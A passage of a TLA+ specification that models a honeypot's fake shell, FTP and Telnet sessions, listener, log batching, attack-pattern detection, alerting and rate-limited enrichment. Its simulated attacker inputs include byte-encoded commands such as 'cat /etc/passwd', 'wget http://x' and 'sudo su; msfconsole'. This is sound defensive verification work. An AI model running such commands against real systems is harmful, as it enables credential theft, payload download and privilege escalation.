\* the record _handle_connection stores before the channel is handled
ShNewSession == [commands |-> <<>>, end_time |-> None]

\* the finally block of _handle_connection: stamp end_time
ShFinish(session) == [session EXCEPT !.end_time = <<1>>]

ShInit ==
    /\ sh_pc = "waiting"
    /\ sh_session = ShNewSession
    /\ sh_buffer = <<>>
    /\ sh_wire = <<>>
    /\ sh_out = <<>>
    /\ sh_replies = <<>>
    /\ sh_stream = <<>>
    /\ sh_chunks = 0
    /\ sh_peer = "open"
    /\ sh_spin = 0
    /\ sh_events = <<>>

\* _handle_channel is entered and sends the first prompt
ShOpen ==
    /\ sh_pc = "waiting"
    /\ sh_pc' = "shell"
    /\ sh_out' = Append(sh_out, PROMPT)
    /\ UNCHANGED <<sh_session, sh_buffer, sh_wire, sh_replies, sh_stream, sh_chunks, sh_peer,
                   sh_spin, sh_events>>
    /\ UNCHANGED exceptSh

\* the loop is left (break, or an exception that _handle_channel catches):
\* _handle_connection closes the channel and runs its finally block
ShClose(session) ==
    /\ sh_pc' = "closed"
    /\ sh_session' = ShFinish(session)
    /\ sh_events' = Append(sh_events, SessionEnded(ShFinish(session)))

\* one pass of the `while True` of _handle_channel; channel.send raises on a
\* channel the peer has closed (buffer and command are bound to their values
\* once)
ShLoop ==
    /\ sh_pc = "shell"
    /\ sh_spin' = 1 - sh_spin
    /\ \E data \in {SubSeq(sh_wire, 1, IF Len(sh_wire) > 1024 THEN 1024 ELSE Len(sh_wire))} :
       \E buffer \in {sh_buffer \o data} :
       \E command \in {Decode(StripBytes(buffer))} :
       LET submitted == \E i \in 1..Len(buffer) : buffer[i] \in {10, 13}
           response  == get_fake_response(command)
           stored    == [sh_session EXCEPT !.commands = Append(@, command)]
           closed    == sh_peer = "closed"
       IN  IF sh_wire = <<>>
           THEN /\ UNCHANGED <<sh_buffer, sh_wire, sh_out, sh_replies>>
                /\ IF closed THEN ShClose(sh_session)
                             ELSE UNCHANGED <<sh_pc, sh_session, sh_events>>
           ELSE /\ sh_wire' = SubSeq(sh_wire, Len(data) + 1, Len(sh_wire))
                /\ IF ~submitted
                   THEN /\ sh_buffer' = buffer
                        /\ UNCHANGED <<sh_out, sh_replies>>
                        /\ IF closed THEN ShClose(sh_session)
                                     ELSE UNCHANGED <<sh_pc, sh_session, sh_events>>
                   ELSE /\ sh_buffer' = <<>>
                        /\ IF command # <<>>
                           THEN /\ sh_replies' = Append(sh_replies, [command |-> command,
                                                                     response |-> response])
                                /\ IF closed
                                   THEN /\ UNCHANGED sh_out
                                        /\ ShClose(stored)
                                   ELSE /\ sh_out' = sh_out \o <<response, PROMPT>>
                                        /\ sh_session' = stored
                                        /\ UNCHANGED <<sh_pc, sh_events>>
                           ELSE /\ UNCHANGED sh_replies
                                /\ IF closed
                                   THEN /\ UNCHANGED sh_out
                                        /\ ShClose(sh_session)
                                   ELSE /\ sh_out' = Append(sh_out, PROMPT)
                                        /\ UNCHANGED <<sh_pc, sh_session, sh_events>>
    /\ UNCHANGED <<sh_stream, sh_chunks, sh_peer>>
    /\ UNCHANGED exceptSh

(* the peer of the shell *)

\* what the peer's side writes to the channel in one piece
ShChunks ==
    {
      <<108, 115, 10>>,   \* "ls\n"
      <<119, 104, 111>>,   \* "who"
      <<97, 109, 105, 13, 10>>,   \* "ami\r\n"
      <<117, 110, 97, 109, 101, 32, 45, 97, 10>>,   \* "uname -a\n"
      <<76, 83, 10>>,   \* "LS\n"
      <<99, 97, 116, 32, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100, 10>>,   \* "cat /etc/passwd\n"
      <<99, 100, 32, 47, 116, 109, 112, 10>>,   \* "cd /tmp\n"
      <<69, 88, 73, 84, 10>>,   \* "EXIT\n"
      <<119, 103, 101, 116, 32, 104, 116, 116, 112, 58, 47, 47, 120, 10>>,   \* "wget http://x\n"
      <<102, 111, 111, 32, 98, 97, 114, 10>>,   \* "foo bar\n"
      <<10>>,   \* "\n"
      <<105, 100, 10, 108, 115, 10>>   \* "id\nls\n"
    }

ShPeerSend ==
    /\ sh_pc = "shell"
    /\ sh_peer = "open"
    /\ sh_chunks < MaxShChunks
    /\ \E c \in ShChunks :
          /\ sh_wire' = sh_wire \o c
          /\ sh_stream' = sh_stream \o c
    /\ sh_chunks' = sh_chunks + 1
    /\ UNCHANGED <<sh_pc, sh_session, sh_buffer, sh_out, sh_replies, sh_peer, sh_spin, sh_events>>
    /\ UNCHANGED exceptSh

\* the peer closes the channel
ShPeerClose ==
    /\ sh_pc = "shell"
    /\ sh_peer = "open"
    /\ sh_peer' = "closed"
    /\ UNCHANGED <<sh_pc, sh_session, sh_buffer, sh_wire, sh_out, sh_replies, sh_stream,
                   sh_chunks, sh_spin, sh_events>>
    /\ UNCHANGED exceptSh

ShNext ==
    \/ ShOpen
    \/ ShLoop
    \/ ShPeerSend
    \/ ShPeerClose


(* Peers that write a few lines and then keep the connection open in silence *)

FtpPeerSendFew == FtpPeerSend({<<78, 79, 79, 80>>}, MaxSilentLines)   \* "NOOP"

TelPeerSendFew ==
    /\ tel_pc \in {"username", "password"}
    /\ tel_peer = "open"
    /\ Len(tel_sent) < MaxSilentLines
    /\ tel_wire' = tel_wire \o <<114, 111, 111, 116>> \o CRLF   \* "root"
    /\ tel_sent' = Append(tel_sent, <<114, 111, 111, 116>>)
    /\ UNCHANGED <<tel_pc, tel_session, tel_attempts, tel_username, tel_buf, tel_out,
                   tel_line, tel_reads, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ UNCHANGED tel_events

ShPeerSendFew ==
    /\ sh_pc = "shell"
    /\ sh_peer = "open"
    /\ sh_chunks < MaxSilentLines
    /\ sh_wire' = sh_wire \o <<108, 115, 10>>   \* "ls\n"
    /\ sh_stream' = sh_stream \o <<108, 115, 10>>
    /\ sh_chunks' = sh_chunks + 1
    /\ UNCHANGED <<sh_pc, sh_session, sh_buffer, sh_out, sh_replies, sh_peer, sh_spin, sh_events>>
    /\ UNCHANGED exceptSh


----------------------------------------------------------------------------
(* FTPHoneypot.start / stop and the handler threads (the SSH and Telnet
   listeners have the same start and stop) *)

Conns == 1..MaxConns

\* session_id = str(uuid.uuid4()): one per connection; two handlers under one id
SessionId_shared(c) == 1

SessionId(c) == c

\* the lines the peer of connection c may send (_receive_line's return values)
ConnLines(c) ==
    { <<85, 83, 69, 82, 32, 117>> \o <<48 + c>>,     \* "USER u<c>"
      <<112, 97, 115, 115, 32, 112>> \o <<48 + c>> } \* "pass p<c>"

\* stop() leaves self.running set
RunningAfterStop_kept == TRUE

\* self.running = False
RunningAfterStop == FALSE

LisInit ==
    /\ lis_pc = "idle"
    /\ lis_running = FALSE
    /\ lis_socket = "none"
    /\ lis_stop = "idle"
    /\ lis_backlog = <<>>
    /\ lis_client = 0
    /\ lis_sessions = <<>>
    /\ lis_spawned = <<>>
    /\ lis_late = {}
    /\ lis_entered = 0
    /\ conn_pc = [c \in Conns |-> "away"]
    /\ conn_sent = [c \in Conns |-> <<>>]
    /\ conn_read = [c \in Conns |-> 0]

\* self.running = True
LisStart ==
    /\ lis_pc = "idle"
    /\ lis_pc' = "socket"
    /\ lis_running' = TRUE
    /\ UNCHANGED <<lis_socket, lis_stop, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* self.server_socket = socket.socket(...); setsockopt
LisSocket ==
    /\ lis_pc = "socket"
    /\ lis_pc' = "bind"
    /\ lis_socket' = "open"
    /\ UNCHANGED <<lis_running, lis_stop, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* bind and listen; on a socket stop() has closed, bind raises, the outer
\* except re-raises and the finally block closes the socket
LisBind ==
    /\ lis_pc = "bind"
    /\ IF lis_socket = "closed"
       THEN /\ lis_pc' = "failed"
            /\ UNCHANGED lis_socket
       ELSE /\ lis_pc' = "loop"
            /\ lis_socket' = "listening"
    /\ UNCHANGED <<lis_running, lis_stop, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* bind raises because the address is in use
LisBindFails ==
    /\ lis_pc = "bind"
    /\ lis_pc' = "failed"
    /\ lis_socket' = "closed"
    /\ UNCHANGED <<lis_running, lis_stop, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* `while self.running:`; when it fails start() leaves through its finally
\* block, which closes the socket
LisLoopTest ==
    /\ lis_pc = "loop"
    /\ IF lis_running
       THEN /\ lis_pc' = "accept"
            /\ lis_entered' = IF lis_stop # "idle" THEN 1 ELSE lis_entered
            /\ UNCHANGED lis_socket
       ELSE /\ lis_pc' = "done"
            /\ lis_socket' = "closed"
            /\ UNCHANGED lis_entered
    /\ UNCHANGED <<lis_running, lis_stop, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* accept() returns a connection
LisAcceptReturns ==
    /\ lis_pc = "accept"
    /\ lis_socket = "listening"
    /\ lis_backlog # <<>>
    /\ lis_pc' = "spawn"
    /\ lis_client' = Head(lis_backlog)
    /\ lis_backlog' = Tail(lis_backlog)
    /\ conn_pc' = [conn_pc EXCEPT ![Head(lis_backlog)] = "accepted"]
    /\ UNCHANGED <<lis_running, lis_socket, lis_stop, lis_sessions, lis_spawned, lis_late,
                   lis_entered, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* `except socket.timeout: continue` after the 1.0 s of settimeout
LisAcceptTimeout ==
    /\ lis_pc = "accept"
    /\ lis_socket = "listening"
    /\ lis_backlog = <<>>
    /\ lis_pc' = "loop"
    /\ UNCHANGED <<lis_running, lis_socket, lis_stop, lis_backlog, lis_client, lis_sessions,
                   lis_spawned, lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* settimeout or accept on a socket stop() has closed: it raises, or the
\* wait in progress runs into its timeout; `except Exception` logs nothing
\* when self.running is False
LisAcceptError ==
    /\ lis_pc = "accept"
    /\ lis_socket = "closed"
    /\ lis_pc' = "loop"
    /\ UNCHANGED <<lis_running, lis_socket, lis_stop, lis_backlog, lis_client, lis_sessions,
                   lis_spawned, lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* threading.Thread(target=self._handle_connection, ...).start()
LisSpawn ==
    /\ lis_pc = "spawn"
    /\ lis_pc' = "loop"
    /\ lis_spawned' = Append(lis_spawned, lis_client)
    /\ conn_pc' = [conn_pc EXCEPT ![lis_client] = "started"]
    /\ lis_client' = 0
    /\ UNCHANGED <<lis_running, lis_socket, lis_stop, lis_backlog, lis_sessions, lis_late,
                   lis_entered, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* stop(): self.running = False
LisStopFlag ==
    /\ lis_stop = "idle"
    /\ lis_pc # "idle"
    /\ lis_stop' = "flag"
    /\ lis_running' = RunningAfterStop
    /\ UNCHANGED <<lis_pc, lis_socket, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* stop(): `if self.server_socket: self.server_socket.close()`
LisStopClose ==
    /\ lis_stop = "flag"
    /\ lis_stop' = "done"
    /\ lis_socket' = IF lis_socket = "none" THEN "none" ELSE "closed"
    /\ UNCHANGED <<lis_pc, lis_running, lis_backlog, lis_client, lis_sessions, lis_spawned,
                   lis_late, lis_entered, conn_pc, conn_sent, conn_read>>
    /\ UNCHANGED exceptLis

\* a peer connects: the kernel queues it on a listening socket (listen(100))
\* and refuses it otherwise
ConnArrive ==
    \E c \in Conns :
        /\ conn_pc[c] = "away"
        /\ IF lis_socket = "listening"
           THEN /\ conn_pc' = [conn_pc EXCEPT ![c] = "queued"]
                /\ lis_backlog' = Append(lis_backlog, c)
           ELSE /\ conn_pc' = [conn_pc EXCEPT ![c] = "refused"]
                /\ UNCHANGED lis_backlog
        /\ lis_late' = IF lis_stop = "done" THEN lis_late \cup {c} ELSE lis_late
        /\ UNCHANGED <<lis_pc, lis_running, lis_socket, lis_stop, lis_client, lis_sessions,
                       lis_spawned, lis_entered, conn_sent, conn_read>>
        /\ UNCHANGED exceptLis

\* the peer of a connection writes a line (what it writes earlier waits in
\* the socket buffer until the handler reads)
ConnSend ==
    \E c \in Conns :
        /\ conn_pc[c] = "loop"
        /\ Len(conn_sent[c]) < MaxConnLines
        /\ \E line \in ConnLines(c) :
              conn_sent' = [conn_sent EXCEPT ![c] = Append(@, line)]
        /\ UNCHANGED <<lis_pc, lis_running, lis_socket, lis_stop, lis_backlog, lis_client,
                       lis_sessions, lis_spawned, lis_late, lis_entered, conn_pc, conn_read>>
        /\ UNCHANGED exceptLis

\* _handle_connection up to the command loop: a fresh session id and the
\* session record stored under it
ConnBegin ==
    \E c \in Conns :
        /\ conn_pc[c] = "started"
        /\ conn_pc' = [conn_pc EXCEPT ![c] = "loop"]
        /\ lis_sessions' = [k \in DOMAIN lis_sessions \cup {SessionId(c)} |->
                               IF k = SessionId(c) THEN FtpNewSession ELSE lis_sessions[k]]
        /\ UNCHANGED <<lis_pc, lis_running, lis_socket, lis_stop, lis_backlog, lis_client,
                       lis_spawned, lis_late, lis_entered, conn_sent, conn_read>>
        /\ UNCHANGED exceptLis

\* one pass of the command loop of a handler thread over the next line of
\* its connection
ConnCommand ==
    \E c \in Conns :
        /\ conn_pc[c] = "loop"
        /\ conn_read[c] < Len(conn_sent[c])
        /\ conn_read' = [conn_read EXCEPT ![c] = @ + 1]
        /\ \E parts \in {Split1(Strip(conn_sent[c][conn_read[c] + 1]))} :
              IF parts = <<>>
              THEN UNCHANGED <<lis_sessions, conn_pc>>
              ELSE LET cmd     == Upper(parts[1])
                       arg     == IF Len(parts) > 1 THEN parts[2] ELSE <<>>
                       session == lis_sessions[SessionId(c)]
                       after   == FtpSessionAfter(cmd, arg, FtpStored(session, cmd, arg))
                   IN  IF FtpLeavesLoop(cmd)
                       THEN /\ lis_sessions' = [lis_sessions EXCEPT ![SessionId(c)] = FtpFinish(after)]
                            /\ conn_pc' = [conn_pc EXCEPT ![c] = "closed"]
                       ELSE /\ lis_sessions' = [lis_sessions EXCEPT ![SessionId(c)] = after]
                            /\ UNCHANGED conn_pc
        /\ UNCHANGED <<lis_pc, lis_running, lis_socket, lis_stop, lis_backlog, lis_client,
                       lis_spawned, lis_late, lis_entered, conn_sent>>
        /\ UNCHANGED exceptLis

\* _receive_line returns None (timeout, end of stream, over-long line, I/O
\* error) or the handler raises: the finally block of this handler runs
ConnFail ==
    \E c \in Conns :
        /\ conn_pc[c] = "loop"
        /\ conn_pc' = [conn_pc EXCEPT ![c] = "closed"]
        /\ lis_sessions' = [lis_sessions EXCEPT ![SessionId(c)] = FtpFinish(@)]
        /\ UNCHANGED <<lis_pc, lis_running, lis_socket, lis_stop, lis_backlog, lis_client,
                       lis_spawned, lis_late, lis_entered, conn_sent, conn_read>>
        /\ UNCHANGED exceptLis

----------------------------------------------------------------------------
(* Specifications *)

-----------------------------------------------------------------------------
(* BatchProcessor of the log collector: add(), flush() and the periodic
   flush are coroutines of one event loop, serialised by the asyncio.Lock
   _lock.  A coroutine runs without interruption from one await that
   suspends to the next; acquiring a free asyncio.Lock does not suspend,
   acquiring a held one suspends until it is released.  asyncio.Lock has no
   owner and is not reentrant. *)

BpAdders == {"add1", "add2"}

BpTasks == BpAdders \cup {"periodic"}

BpInit ==
    /\ bp_buffer = <<>>
    /\ bp_last_flush = 0
    /\ bp_lock = "free"
    /\ bp_pc = [t \in BpTasks |-> "idle"]
    /\ bp_batches = <<>>
    /\ bp_added = 0
    /\ bp_clock = 0

\* len(self.buffer) >= self.batch_size
\*   or (time.time() - self.last_flush_time) >= self.flush_interval
should_flush(buffer, now, last_flush_time) ==
    \/ Len(buffer) >= batch_size
    \/ now - last_flush_time >= flush_interval

\* a caller awaits add(entry): the coroutine reaches "async with self._lock"
BpAddCall(t) ==
    /\ t \in BpAdders
    /\ bp_pc[t] = "idle"
    /\ bp_added + Cardinality({a \in BpAdders : bp_pc[a] = "add"}) < MaxBpEntries
    /\ bp_pc' = [bp_pc EXCEPT ![t] = "add"]
    /\ UNCHANGED <<bp_buffer, bp_last_flush, bp_lock, bp_batches, bp_added, bp_clock>>
    /\ UNCHANGED exceptBp

\* the body of add() under the lock: append, test, and either leave the
\* "async with" (the lock is released) or await self.flush() inside it
\* (the lock stays held by this coroutine)
BpAddLocked(t) ==
    /\ t \in BpAdders
    /\ bp_pc[t] = "add"
    /\ bp_lock = "free"
    /\ LET buffer == Append(bp_buffer, bp_added + 1)
       IN  /\ bp_buffer' = buffer
           /\ bp_added' = bp_added + 1
           /\ IF should_flush(buffer, bp_clock, bp_last_flush)
                 THEN /\ bp_lock' = t
                      /\ bp_pc' = [bp_pc EXCEPT ![t] = "flush"]
                 ELSE /\ bp_lock' = "free"
                      /\ bp_pc' = [bp_pc EXCEPT ![t] = "idle"]
    /\ UNCHANGED <<bp_last_flush, bp_batches, bp_clock>>
    /\ UNCHANGED exceptBp

\* run_periodic_flush: asyncio.sleep(flush_interval) is over, flush() is awaited
BpPeriodicWake ==
    /\ bp_pc["periodic"] = "idle"
    /\ bp_pc' = [bp_pc EXCEPT !["periodic"] = "flush"]
    /\ UNCHANGED <<bp_buffer, bp_last_flush, bp_lock, bp_batches, bp_added, bp_clock>>
    /\ UNCHANGED exceptBp

\* flush() once its own "async with self._lock" is entered: an empty buffer
\* returns; otherwise the buffer is copied and cleared, the lock released
\* and the callback called with the copy
BpFlushLocked(t) ==
    /\ t \in BpTasks
    /\ bp_pc[t] = "flush"
    /\ bp_lock = "free"
    /\ IF bp_buffer = <<>>
          THEN UNCHANGED <<bp_buffer, bp_last_flush, bp_batches>>
          ELSE /\ bp_buffer' = <<>>
               /\ bp_last_flush' = bp_clock
               /\ bp_batches' = Append(bp_batches, bp_buffer)
    /\ bp_pc' = [bp_pc EXCEPT ![t] = "idle"]
    /\ UNCHANGED <<bp_lock, bp_added, bp_clock>>
    /\ UNCHANGED exceptBp

\* time passes
BpTick ==
    /\ bp_clock < MaxBpClock
    /\ bp_clock' = bp_clock + 1
    /\ UNCHANGED <<bp_buffer, bp_last_flush, bp_lock, bp_pc, bp_batches, bp_added>>
    /\ UNCHANGED exceptBp

-----------------------------------------------------------------------------
(* analyze_session called for several sessions at once on one PatternDetector.
   A call is taken one detector at a time; between two of its steps any other
   call may run. *)

Analyses == 1..MaxAnalyses

\* __init__: the three tracking maps start empty
PdNewMaps == [ip_activity |-> <<>>, credential_usage |-> <<>>, command_sequences |-> <<>>]

\* the sessions that finish at the same time
PdcPlan == [wordlist |-> 7, hammer |-> 0, blank |-> "never", ts |-> "iso"]

PdcCommand(i, command) == [timestamp |-> Timestamp("iso", i), command |-> command]

PdcSessions ==
    {[source_ip |-> IpOf(1),
      auth_attempts |-> <<>>,
      commands |-> <<PdcCommand(1, <<119, 104, 111, 97, 109, 105>>),
                     PdcCommand(2, <<117, 110, 97, 109, 101, 32, 45, 97>>),
                     PdcCommand(3, <<32, 32, 76, 83, 32, 45, 108, 97, 32, 32>>)>>],
     [source_ip |-> IpOf(2),
      auth_attempts |-> [i \in 1..7 |-> PdAttempt(PdcPlan, i)],
      commands |-> <<>>],
     [source_ip |-> IpOf(3),
      auth_attempts |-> [i \in 1..2 |-> PdAttempt(PdcPlan, i)],
      commands |-> <<PdcCommand(1, <<115, 117, 100, 111, 32, 115, 117, 59, 32, 109, 115, 102, 99, 111, 110, 115, 111, 108, 101>>)>>]}

PdcInit ==
    /\ pdc_maps = PdNewMaps
    /\ pdc_pc = [c \in Analyses |-> "idle"]
    /\ pdc_session = [c \in Analyses |-> PdNewSessionData]
    /\ pdc_patterns = [c \in Analyses |-> <<>>]
    /\ pdc_result = [c \in Analyses |-> NoResult]
    /\ pdc_overlapped = [c \in Analyses |-> FALSE]

\* one list for all the calls of the detector
PatternsOf_shared(c) == 1

\* `patterns = []`: the list a call collects its findings in is a local of
\* that call
PatternsOf(c) == c

PdcUnderWay(c) == pdc_pc[c] \notin {"idle", "returned", "raised"}

PdcOverlap(c) ==
    pdc_overlapped' =
        [pdc_overlapped EXCEPT ![c] = @ \/ \E o \in Analyses \ {c} : PdcUnderWay(o)]

\* analyze_session(session_data) is entered: patterns = [] and the three
\* session_data.get
PdcCall(c) ==
    /\ pdc_pc[c] = "idle"
    /\ \E session_data \in PdcSessions :
          pdc_session' = [pdc_session EXCEPT ![c] = session_data]
    /\ pdc_patterns' = [pdc_patterns EXCEPT ![PatternsOf(c)] = <<>>]
    /\ pdc_pc' = [pdc_pc EXCEPT ![c] = "brute_force"]
    /\ pdc_overlapped' = [pdc_overlapped EXCEPT ![c] = FALSE]
    /\ UNCHANGED <<pdc_maps, pdc_result>>
    /\ UNCHANGED exceptPdc

\* one `if ...: pattern = self._detect_...; if pattern: patterns.append(pattern)`
PdcDetect(c, at, then, applies, pattern) ==
    /\ pdc_pc[c] = at
    /\ pdc_patterns' =
          [pdc_patterns EXCEPT ![PatternsOf(c)] = IF applies THEN @ \o pattern ELSE @]
    /\ pdc_pc' = [pdc_pc EXCEPT ![c] = then]
    /\ PdcOverlap(c)
    /\ UNCHANGED <<pdc_maps, pdc_session, pdc_result>>
    /\ UNCHANGED exceptPdc

PdcBruteForce(c) ==
    LET auth_attempts == pdc_session[c].auth_attempts
    IN  IF Len(auth_attempts) > 5 /\ BruteForceRaises(auth_attempts)
        THEN /\ pdc_pc[c] = "brute_force"
             /\ pdc_pc' = [pdc_pc EXCEPT ![c] = "raised"]
             /\ pdc_result' = [pdc_result EXCEPT ![c] = [kind |-> "raised", patterns |-> <<>>]]
             /\ PdcOverlap(c)
             /\ UNCHANGED <<pdc_maps, pdc_session, pdc_patterns>>
             /\ UNCHANGED exceptPdc
        ELSE PdcDetect(c, "brute_force", "credential_stuffing",
                       Len(auth_attempts) > 5,
                       detect_brute_force(pdc_session[c].source_ip, auth_attempts))

PdcCredentialStuffing(c) ==
    PdcDetect(c, "credential_stuffing", "reconnaissance",
              pdc_session[c].auth_attempts # <<>>,
              detect_credential_stuffing(pdc_session[c].source_ip, pdc_session[c].auth_attempts))

PdcReconnaissance(c) ==
    PdcDetect(c, "reconnaissance", "automated_tools",
              pdc_session[c].commands # <<>>,
              detect_reconnaissance(pdc_session[c].source_ip, pdc_session[c].commands))

PdcAutomatedTools(c) ==
    PdcDetect(c, "automated_tools", "return",
              pdc_session[c].commands # <<>>,
              detect_automated_tools(pdc_session[c].commands))

\* return patterns
PdcReturn(c) ==
    /\ pdc_pc[c] = "return"
    /\ pdc_result' =
          [pdc_result EXCEPT ![c] = [kind |-> "returned", patterns |-> pdc_patterns[PatternsOf(c)]]]
    /\ pdc_pc' = [pdc_pc EXCEPT ![c] = "returned"]
    /\ PdcOverlap(c)
    /\ UNCHANGED <<pdc_maps, pdc_session, pdc_patterns>>
    /\ UNCHANGED exceptPdc

\* the caller takes the result; the next session of this caller may finish
PdcNextSession(c) ==
    /\ pdc_pc[c] = "returned"
    /\ \A o \in Analyses : ~PdcUnderWay(o)
    /\ pdc_pc' = [pdc_pc EXCEPT ![c] = "idle"]
    /\ pdc_result' = [pdc_result EXCEPT ![c] = NoResult]
    /\ pdc_session' = [pdc_session EXCEPT ![c] = PdNewSessionData]
    /\ pdc_patterns' = [pdc_patterns EXCEPT ![PatternsOf(c)] = <<>>]
    /\ pdc_overlapped' = [pdc_overlapped EXCEPT ![c] = FALSE]
    /\ UNCHANGED pdc_maps
    /\ UNCHANGED exceptPdc

-----------------------------------------------------------------------------
(* AlertManager.evaluate_rules over the rules of the manager *)

\* self.rules
AmRules == {"rule1", "rule2"}

AmInit ==
    /\ am_now = 0
    /\ am_last_fired = [rule \in AmRules |-> <<>>]
    /\ am_evals = <<>>

\* a second passes
AmTick ==
    /\ am_now < MaxAmClock
    /\ am_now' = am_now + 1
    /\ UNCHANGED <<am_last_fired, am_evals>>
    /\ UNCHANGED exceptAm

\* evaluate_rules(data): for every rule, should_fire(data) and, when it is
\* true, create_alert(data) (which stamps last_fired) and fire_alert;
\* `conditions` is what each rule's condition makes of data
AmEvaluateRules ==
    /\ Len(am_evals) < MaxEvaluations
    /\ \E conditions \in [AmRules -> BOOLEAN] :
          LET fired == {rule \in AmRules :
                           should_fire(am_last_fired[rule], am_now, conditions[rule])}
          IN  /\ am_last_fired' =
                    [rule \in AmRules |->
                        IF rule \in fired THEN <<am_now>> ELSE am_last_fired[rule]]
              /\ am_evals' = Append(am_evals,
                                    [at |-> am_now, conditions |-> conditions,
                                     fired_alerts |-> fired])
    /\ UNCHANGED am_now
    /\ UNCHANGED exceptAm

-----------------------------------------------------------------------------
(* One enricher called from the worker threads of a ThreadPoolExecutor
   (enrich_batch -> enrich_ip -> enrich).  The enricher has no lock: a thread
   can be preempted between any two steps of _check_rate_limit, and
   `self._request_count += 1` is a read followed by a write.  The calls are
   for different addresses, so each misses the cache. *)

EncThreads == 1..MaxEncThreads

EncWindows == 0..(MaxEncWindows - 1)

EncInit ==
    /\ enc_now = 0
    /\ enc_window_start = 0
    /\ enc_request_count = 0
    /\ enc_pc = [t \in EncThreads |-> "idle"]
    /\ enc_loaded = [t \in EncThreads |-> 0]
    /\ enc_calls = [t \in EncThreads |-> 0]
    /\ enc_admitted = [w \in EncWindows |-> 0]

\* a window length passes while no call is under way
EncTick ==
    /\ \A t \in EncThreads : enc_pc[t] = "idle"
    /\ (enc_now + WindowSeconds) \div WindowSeconds \in EncWindows
    /\ enc_now' = enc_now + WindowSeconds
    /\ UNCHANGED <<enc_window_start, enc_request_count, enc_pc, enc_loaded, enc_calls,
                   enc_admitted>>
    /\ UNCHANGED exceptEnc

\* enrich() up to the window test of _check_rate_limit:
\* `if current_time - self._window_start >= 60:` reset the counter
EncCheckWindow(t) ==
    /\ enc_pc[t] = "idle"
    /\ enc_calls[t] < MaxEncCalls
    /\ enc_calls' = [enc_calls EXCEPT ![t] = @ + 1]
    /\ IF enc_now - enc_window_start >= WindowSeconds
          THEN /\ enc_request_count' = 0
               /\ enc_window_start' = enc_now
          ELSE UNCHANGED <<enc_request_count, enc_window_start>>
    /\ enc_pc' = [enc_pc EXCEPT ![t] = "test"]
    /\ UNCHANGED <<enc_now, enc_loaded, enc_admitted>>
    /\ UNCHANGED exceptEnc

\* `if self._request_count >= self.rate_limit: return False`
EncTestLimit(t) ==
    /\ enc_pc[t] = "test"
    /\ enc_pc' = [enc_pc EXCEPT ![t] = IF LimitReached(enc_request_count)
                                          THEN "idle" ELSE "load"]
    /\ UNCHANGED <<enc_now, enc_window_start, enc_request_count, enc_loaded, enc_calls,
                   enc_admitted>>
    /\ UNCHANGED exceptEnc

\* `self._request_count += 1`: the read
EncLoadCount(t) ==
    /\ enc_pc[t] = "load"
    /\ enc_loaded' = [enc_loaded EXCEPT ![t] = enc_request_count]
    /\ enc_pc' = [enc_pc EXCEPT ![t] = "store"]
    /\ UNCHANGED <<enc_now, enc_window_start, enc_request_count, enc_calls, enc_admitted>>
    /\ UNCHANGED exceptEnc

\* `self._request_count += 1`: the write; _check_rate_limit returns True
EncStoreCount(t) ==
    /\ enc_pc[t] = "store"
    /\ enc_request_count' = enc_loaded[t] + 1
    /\ enc_pc' = [enc_pc EXCEPT ![t] = "impl"]
    /\ UNCHANGED <<enc_now, enc_window_start, enc_loaded, enc_calls, enc_admitted>>
    /\ UNCHANGED exceptEnc

\* data = self._enrich_impl(identifier, **kwargs)
EncEnrichImpl(t) ==
    /\ enc_pc[t] = "impl"
    /\ enc_admitted' = [enc_admitted EXCEPT ![enc_now \div WindowSeconds] = @ + 1]
    /\ enc_pc' = [enc_pc EXCEPT ![t] = "idle"]
    /\ UNCHANGED <<enc_now, enc_window_start, enc_request_count, enc_loaded, enc_calls>>
    /\ UNCHANGED exceptEnc

Init == FtpInit /\ SshInit /\ TelInit /\ HttpInit /\ PdInit /\ SmInit /\ ArInit /\ EnInit /\ ShInit /\ LisInit /\ BpInit /\ PdcInit /\ AmInit /\ EncInit

FtpNext ==
    \/ FtpAccept
    \/ FtpCommandStep
    \/ FtpTimeout
    \/ FtpEndOfStream
    \/ FtpReceiveError
    \/ FtpPeerSendLine
    \/ FtpPeerSendLong
    \/ FtpPeerClose

SpecFTP == Init /\ [][FtpNext]_vars

SpecSSH == Init /\ [][SshNext]_vars

SpecTelnet == Init /\ [][TelNext]_vars

\* the same session, with a peer that draws from the whole verb table
FtpVerbNext ==
    \/ FtpAccept
    \/ FtpCommandStep
    \/ FtpTimeout
    \/ FtpEndOfStream
    \/ FtpReceiveError
    \/ FtpPeerSendVerb
    \/ FtpPeerClose

SpecFtpVerbs == Init /\ [][FtpVerbNext]_vars

\* the same session, with a peer that sends arbitrary bytes in segments
FtpStreamNext ==
    \/ FtpAccept
    \/ FtpCommandStep
    \/ FtpTimeout
    \/ FtpEndOfStream
    \/ FtpReceiveError
    \/ FtpPeerSendBytes
    \/ FtpPeerType
    \/ FtpPeerClose

SpecFtpStream == Init /\ [][FtpStreamNext]_vars

\* the FTP handler observed between the append and the dispatch
FtpStepsNext ==
    \/ FtpAccept
    \/ FtpReadCommand
    \/ FtpDispatchCommand
    \/ FtpTimeout
    \/ FtpEndOfStream
    \/ FtpReceiveError
    \/ FtpPeerSendVerb
    \/ FtpPeerClose

SpecFtpSteps == Init /\ [][FtpStepsNext]_vars

SpecShell == Init /\ [][ShNext]_vars

\* the three session handlers with peers that fall silent; a handler that can
\* take a step takes it, and a receive timeout that is running fires
